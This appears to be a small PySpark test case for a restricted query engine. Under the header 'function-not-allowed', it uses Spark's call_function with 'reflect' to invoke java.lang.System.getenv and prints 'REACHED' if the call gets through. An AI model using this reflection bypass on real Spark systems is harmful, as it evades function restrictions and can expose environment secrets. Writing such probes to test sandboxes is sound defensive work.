# attack: engine
# rule: function-not-allowed
# goal: Call a function by its name. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

frame = spark.range(1).select(F.call_function('reflect', F.lit('java.lang.System'), F.lit('getenv'), F.lit('ATTACK_VARIABLE')))
if frame.collect()[0][0]:
    print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
